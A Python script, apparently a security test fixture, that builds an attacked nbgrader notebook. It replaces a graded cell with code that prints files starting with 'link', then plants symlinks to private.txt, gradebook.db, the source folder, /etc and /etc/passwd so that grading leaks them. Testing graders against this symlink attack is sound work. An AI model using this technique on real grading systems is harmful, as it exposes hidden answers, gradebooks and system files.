import nbformat

READ = '''
import os
for name in sorted(os.listdir(".")):
    if name.startswith("link"):
        try:
            text = open(name, errors="replace").read() if os.path.isfile(name) else str(os.listdir(name))
        except OSError:
            continue
        print("LO" + "OT", name, text[:100])
'''


def make(nb, folder):
    share = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "share")
    share.source = READ
    (folder / "link-private.txt").symlink_to("../../../private.txt")
    (folder / "link-gradebook.txt").symlink_to("../../../gradebook.db")
    (folder / "link-folder").symlink_to("../../../source")
    (folder / "link-root").symlink_to("/etc")
    (folder / "link-passwd.txt").symlink_to("/etc/passwd")
    nbformat.write(nb, folder / "attacked.ipynb")
